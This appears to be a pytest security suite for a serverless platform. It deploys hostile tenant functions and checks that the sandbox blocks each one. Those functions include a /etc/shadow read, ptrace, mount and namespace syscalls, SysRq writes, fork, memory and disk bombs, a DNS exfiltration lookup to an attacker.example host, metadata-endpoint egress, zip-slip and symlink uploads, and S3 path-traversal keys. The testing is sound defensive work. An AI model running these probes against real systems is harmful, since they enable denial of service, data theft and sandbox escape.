"""The red-team suite: hostile functions deployed to a real `mist up`, each blocked, and mist and
a neighbouring function serving on, unaffected, after each one (`Mist.assert_unaffected`).

Each hostile function is a real function (its own code, its own sandbox). Probes already covered
one by one at the Worker API (tests/worker/test_isolation.py, test_network.py) come back here
through the whole platform, deployed and invoked as a tenant would.
"""

from __future__ import annotations

import json
import os
import socket
from concurrent.futures import ThreadPoolExecutor

import boto3
import pytest
from botocore.config import Config

from tests.security.conftest import Mist, start_mist, zip_bytes
from tests.worker.conftest import CAN_SANDBOX

pytestmark = [pytest.mark.sandbox,
              pytest.mark.skipif(not CAN_SANDBOX, reason="real sandboxes need root and cgroup v1 memory/cpu/pids")]

PRELUDE = '''
import ctypes, errno, os, resource, signal, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def attempt(fn):
    try:
        out = fn()
    except OSError as exc:
        return f"{type(exc).__name__}:{errno.errorcode.get(exc.errno, exc.errno)}"
    except ValueError as exc:
        return f"ValueError"
    return "allowed" if out is None else out

def call(name, *args):
    def run():
        if getattr(libc, name)(*args) < 0:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err))
    return attempt(run)

def syscall(number, *args):
    def run():
        if libc.syscall(number, *args) < 0:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err))
    return attempt(run)

def connect(host, port, family=socket.AF_INET):
    def run():
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect((host, port))
    return attempt(run)

def write(path, data="x"):
    def run():
        with open(path, "w") as f:
            f.write(data)
    return attempt(run)
'''

BLOCKED = ("PermissionError:EPERM", "PermissionError:EACCES")


def fn(body: str) -> str:
    return PRELUDE + "\ndef handler(event, context):\n" + "\n".join("    " + line for line in body.strip().splitlines()) + "\n"


# name -> (handler body, expected result); each handler returns what its attack achieved.
PROBES: dict[str, tuple[str, object]] = {
    "read-shadow": ('return attempt(lambda: open("/etc/shadow").read())', "FileNotFoundError:ENOENT"),
    "read-host-home": ('return [p for p in ("/root/.bashrc", "/root/.ssh", "/home", "/work") if os.path.exists(p)]', []),
    "read-mist-data-dir": ('return [p for p in event if os.path.exists(p)]', []),
    "list-host-processes": ('return sorted(p for p in os.listdir("/proc") if p.isdigit())', ["1"]),
    "connect-postgres": ('return connect("127.0.0.1", 5432)', "PermissionError:EPERM"),
    "connect-redis": ('return connect("127.0.0.1", 6379)', "PermissionError:EPERM"),
    "connect-mist-api": ('return [connect("127.0.0.1", event), connect("::1", event, socket.AF_INET6)]',
                         ["PermissionError:EPERM", "PermissionError:EPERM"]),
    "host-unix-sockets": ('return [p for p in ("/var/run/postgresql", "/run/redis", "/var/run/docker.sock", "/run/systemd") '
                          'if os.path.exists(p)]', []),
    "raise-rlimits": ('return [attempt(lambda: resource.setrlimit(r, (resource.getrlimit(r)[1] + 1,) * 2)) '
                      'for r in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_CORE)]',
                      ["ValueError", "ValueError", "ValueError"]),
    "write-cgroups": ('return [write("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1"), os.path.exists("/sys")]',
                      ["FileNotFoundError:ENOENT", False]),
    "ptrace": ('return [call("ptrace", 0, 0, 0, 0), call("ptrace", 16, 1, 0, 0)]', ["PermissionError:EPERM"] * 2),
    "mount": ('return [call("mount", b"tmpfs", b"/tmp", b"tmpfs", 0, None), call("umount2", b"/var/task", 2), '
              'call("chroot", b"/tmp")]', ["PermissionError:EPERM"] * 3),
    "unshare-setns": ('fd = os.open("/proc/self/ns/net", os.O_RDONLY)\n'
                      'return [call("unshare", 0x10000000), call("unshare", 0x40000000), call("unshare", 0x20000), '
                      'call("setns", fd, 0)]', ["PermissionError:EPERM"] * 4),
    "clone-namespaces": ('return [syscall(435, 0, 0), syscall(56, 0x10000000 | 17, 0, 0, 0, 0)]',
                         ["OSError:ENOSYS", "PermissionError:EPERM"]),
    "kernel-modules": ('return [syscall(175, 0, 0, b""), syscall(313, 0, b"", 0), syscall(176, b"ext4", 0)]',
                       ["PermissionError:EPERM"] * 3),
    "write-proc-sys": ('return [write("/proc/sys/kernel/hostname", "pwned"), write("/proc/sysrq-trigger", "b"), '
                       'write("/proc/sys/vm/drop_caches", "3"), write("/proc/1/oom_score_adj", "-1000")]',
                       None),  # checked below
    "signal-everything": ('sent = [attempt(lambda p=p: os.kill(p, signal.SIGKILL)) for p in [*range(2, 4096), *event]]\n'
                          'return sorted(set(sent))', ["ProcessLookupError:ESRCH"]),  # event: every host pid
    "setuid-programs": ('found = []\n'
                        'for d in ("/usr/bin", "/usr/sbin", "/usr/lib", "/usr/libexec"):\n'
                        '    for root, dirs, files in os.walk(d):\n'
                        '        for f in files:\n'
                        '            try:\n'
                        '                if os.lstat(os.path.join(root, f)).st_mode & 0o6000: found.append(f)\n'
                        '            except OSError: pass\n'
                        'mounts = [l.split()[5] for l in open("/proc/self/mountinfo")]\n'
                        'return [found, all("nosuid" in m.split(",") for m in mounts), attempt(lambda: os.setuid(0))]',
                        [[], True, "OSError:EINVAL"]),  # uid 0 does not even exist in its user namespace
    "devices": ('return [sorted(os.listdir("/dev")), attempt(lambda: open("/dev/mem", "rb")), '
                'attempt(lambda: open("/dev/kmsg", "rb")), attempt(lambda: os.mknod("/tmp/sda", 0o600 | 0o060000, os.makedev(8, 0)))]',
                [["fd", "full", "null", "random", "shm", "stderr", "stdin", "stdout", "urandom", "zero"],
                 "FileNotFoundError:ENOENT", "FileNotFoundError:ENOENT", "PermissionError:EPERM"]),
    "keyctl-bpf-perf": ('return [syscall(250, 0, 0, 0, 0, 0), syscall(321, 0, 0, 0), syscall(298, 0, 0, -1, -1, 0), '
                        'syscall(248, b"user", b"k", b"v", 1, -2)]', ["PermissionError:EPERM"] * 4),
    "userfaultfd-io-uring": ('return [syscall(323, 0), syscall(425, 8, ctypes.create_string_buffer(120))]',
                             ["PermissionError:EPERM"] * 2),
    "write-code-dir": ('return [write("/var/task/main.py", "pwned"), write("/var/task/evil.py"), write("/usr/lib/evil"), '
                       'write("/etc/passwd")]', ["OSError:EROFS"] * 4),
    "core-dumps": ('return [resource.getrlimit(resource.RLIMIT_CORE), attempt(lambda: resource.setrlimit('
                   'resource.RLIMIT_CORE, (1 << 30, 1 << 30)))]', [[0, 0], "ValueError"]),
    "tiocsti": ('import fcntl, termios\n'
                'return [attempt(lambda: fcntl.ioctl(0, termios.TIOCSTI, b"x")), attempt(lambda: open("/dev/tty", "rb")), '
                'os.isatty(0) or os.isatty(1) or os.isatty(2)]',
                ["OSError:ENOTTY", "FileNotFoundError:ENOENT", False]),
    "exhaust-file-descriptors": ('fds = []\n'
                                 'try:\n'
                                 '    while True: fds.append(os.open("/dev/null", os.O_RDONLY))\n'
                                 'except OSError as exc:\n'
                                 '    err = errno.errorcode[exc.errno]\n'
                                 'n = len(fds)\n'
                                 'for fd in fds: os.close(fd)\n'
                                 'return [err, n < 1024]', ["EMFILE", True]),
    "reboot-and-clock": ('return [call("reboot", 0x4321FEDC), call("sethostname", b"pwned", 5), '
                         'syscall(227, 0, ctypes.create_string_buffer(16))]', ["PermissionError:EPERM"] * 3),
}
PROBES["dns-exfiltration-without-network"] = (  # a name lookup carrying data out
    'def lookup():\n'
    '    try:\n'
    '        socket.getaddrinfo("c2VjcmV0.exfil.attacker.example", 53)\n'
    '        return "resolved"\n'
    '    except socket.gaierror:\n'
    '        return "gaierror"\n'
    'return [lookup(), open("/etc/resolv.conf").read(), attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)), '
    'open("/proc/net/dev").read().count(":")]',
    ["gaierror", "", "PermissionError:EPERM", 1])  # only the (down) loopback
PROBES["kernel-info"] = (
    'return [attempt(lambda: open("/proc/kcore", "rb").read(1)) in ("FileNotFoundError:ENOENT", "PermissionError:EACCES"), '
    'set(l.split()[0] for l in open("/proc/kallsyms")) <= {"0000000000000000"}, call("klogctl", 3, None, 0)]',
    [True, True, "PermissionError:EPERM"])

SECRET_WRITER = fn('open("/tmp/secret", "w").write("tenant A")\nreturn os.listdir("/tmp")')
SNOOP = fn('return [sorted(os.listdir("/tmp")), [p for p in event if os.path.exists(p)]]')
FORK_BOMB = fn('import time\nn = 0\ntry:\n    while True:\n        if os.fork() == 0:\n            time.sleep(30)\n'
               '            os._exit(0)\n        n += 1\nexcept OSError as exc:\n    return ["stopped", errno.errorcode[exc.errno], n < 64]')
MEMORY_BOMB = fn('hog = []\nwhile True:\n    hog.append(bytearray(16 << 20))')
TMP_FILLER = fn('written = 0\ntry:\n    with open("/tmp/fill", "wb") as f:\n        while True:\n'
                '            f.write(b"x" * (1 << 20)); f.flush(); written += 1\nexcept OSError as exc:\n'
                '    return [errno.errorcode[exc.errno], written]')
EGRESS_PROBE = fn('return [connect(host, port) for host, port in event]')

FUNCTIONS: dict[str, tuple[str, dict]] = {
    **{name: (fn(body), {}) for name, (body, _) in PROBES.items()},
    "secret-writer": (SECRET_WRITER, {}),
    "snoop": (SNOOP, {}),
    "fork-bomb": (FORK_BOMB, {"timeout_s": 20}),
    "memory-bomb": (MEMORY_BOMB, {"timeout_s": 20}),
    "tmp-filler": (TMP_FILLER, {"timeout_s": 20, "memory_mb": 1024}),
    "egress-to-host": (EGRESS_PROBE, {"network": {"egress": ["0.0.0.0/0"]}}),
}


@pytest.fixture(scope="module")
def mist(tmp_path_factory):
    m = start_mist(tmp_path_factory, FUNCTIONS)
    yield m
    assert m.server.stop() == 0


def result(m: Mist, name: str, event: object = None) -> object:
    answer = m.invoke(name, event)
    assert answer.status_code == 200, (name, answer.text)
    return answer.json()


@pytest.mark.parametrize("name", sorted(n for n, (_, want) in PROBES.items() if want is not None))
def test_a_hostile_probe_is_blocked(mist, name):
    event = None
    if name == "read-mist-data-dir":
        data = mist.server.data_dir
        event = [str(data), str(data / "mist.db"), str(data / "code"), str(data / "s3"), "/var/task/../../mist.db"]
    if name == "connect-mist-api":
        event = int(mist.server.url.rsplit(":", 1)[1])
    if name == "signal-everything":  # mist, the neighbour's sandbox and every other process
        event = sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and p != "1")  # 1: itself
    assert result(mist, name, event) == PROBES[name][1]
    mist.assert_unaffected()


def test_writing_proc_and_sys_is_refused(mist):
    got = result(mist, "write-proc-sys")
    assert got[0] in ("OSError:EROFS", *BLOCKED)
    assert got[1] in ("OSError:EROFS", "FileNotFoundError:ENOENT", *BLOCKED)  # no SysRq on some kernels
    assert got[2] in ("OSError:EROFS", *BLOCKED) and got[3] in ("FileNotFoundError:ENOENT", *BLOCKED)
    assert socket.gethostname() != "pwned"  # the host's name is untouched
    mist.assert_unaffected()


def test_another_functions_tmp_and_code_are_out_of_reach(mist):
    assert result(mist, "secret-writer") == ["secret"]
    code_root = mist.server.data_dir / "code"
    other_code = [str(p) for p in code_root.iterdir()]
    assert other_code  # the host has them...
    assert result(mist, "snoop", other_code) == [[], []]  # ...the snoop sees neither them nor the secret
    mist.assert_unaffected()


def test_bombs_are_stopped_by_their_own_limits_side_by_side(mist):
    with ThreadPoolExecutor(3) as pool:
        fork, memory, tmp = pool.map(lambda name: mist.invoke(name, None), ["fork-bomb", "memory-bomb", "tmp-filler"])
    assert fork.status_code == 200 and fork.json() == ["stopped", "EAGAIN", True], fork.text
    assert memory.status_code == 500 and memory.json()["errorType"] == "Runtime.OutOfMemory", memory.text
    assert tmp.status_code == 200 and tmp.json()[0] in ("ENOSPC", "EFBIG"), tmp.text
    mist.assert_unaffected()


def test_egress_never_reaches_the_host_its_loopback_or_mists_ports(mist):
    port = int(mist.server.url.rsplit(":", 1)[1])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("203.0.113.1", 9))
        host_ip = s.getsockname()[0]
    targets = [["127.0.0.1", port], ["127.0.0.1", 5432], ["127.0.0.1", 6379], [host_ip, port], [host_ip, 5432],
               [host_ip, mist.s3_port], ["169.254.169.254", 80]]
    got = result(mist, "egress-to-host", targets)
    assert all(g in ("OSError:EHOSTUNREACH", "ConnectionRefusedError:ECONNREFUSED") for g in got), got
    mist.assert_unaffected()


@pytest.mark.parametrize(
    ("name", "zipped", "message"),
    [
        ("zip-slip", zip_bytes({"main.py": "def handler(e, c): pass\n", "../../../../tmp/slipped.py": "x"}), ".."),
        ("zip-absolute", zip_bytes({"main.py": "def handler(e, c): pass\n", "/tmp/absolute.py": "x"}), "absolute"),
        ("zip-symlink-out", zip_bytes({"main.py": "def handler(e, c): return open('shadow').read()\n"},
                                      {"shadow": "/etc/shadow"}), "symlink"),
        ("zip-symlink-up", zip_bytes({"main.py": "def handler(e, c): pass\n"}, {"up": "../../../"}), "symlink"),
    ],
)
def test_hostile_uploads_are_refused_and_write_nothing_outside(mist, name, zipped, message):
    answer = mist.deploy(name, zipped=zipped)
    assert answer.status_code in (400, 422), answer.text
    assert message in answer.text.lower()
    assert not os.path.exists("/tmp/slipped.py") and not os.path.exists("/tmp/absolute.py")
    with mist.client() as c:
        assert c.get(f"/v1/functions/{name}").status_code == 404
    mist.assert_unaffected()


def test_s3_keys_with_path_traversal_stay_keys(mist):
    created = mist.server.cli("s3", "keys", "create", "--json")
    key = json.loads(created.stdout)
    s3 = boto3.client("s3", endpoint_url=f"http://127.0.0.1:{mist.s3_port}", region_name="us-east-1",
                      aws_access_key_id=key["access_key_id"], aws_secret_access_key=key["secret_access_key"],
                      config=Config(s3={"addressing_style": "path"}))
    s3.create_bucket(Bucket="loot")
    before = {str(p) for p in mist.server.data_dir.parent.rglob("*")}
    hostile = ["../../../../tmp/escaped", "../mist.db", "/etc/cron.d/evil", "a/../../../b", "..%2F..%2Fx", "./../.."]
    for k in hostile:
        s3.put_object(Bucket="loot", Key=k, Body=b"pwned")
    for k in hostile:
        assert s3.get_object(Bucket="loot", Key=k)["Body"].read() == b"pwned"
    listed = {o["Key"] for o in s3.list_objects_v2(Bucket="loot")["Contents"]}
    assert listed == set(hostile)
    after = {str(p) for p in mist.server.data_dir.parent.rglob("*")}
    assert not os.path.exists("/tmp/escaped") and not os.path.exists("/etc/cron.d/evil")
    new_files = [p for p in after - before if not p.startswith(str(mist.server.data_dir / "s3"))
                 and not p.startswith(str(mist.server.data_dir / "uploads"))]
    assert all(os.path.basename(p) in ("mist.db-wal", "mist.db-shm", "server.log") or p.startswith(str(mist.server.data_dir))
               for p in new_files), new_files
    mist.assert_unaffected()


def test_the_suite_deploys_at_least_thirty_hostile_functions():
    hostile = [n for n in FUNCTIONS if n != "secret-writer"]  # it only plants the secret the snoop looks for
    assert len(hostile) >= 30, hostile  # besides the hostile uploads and S3 keys above

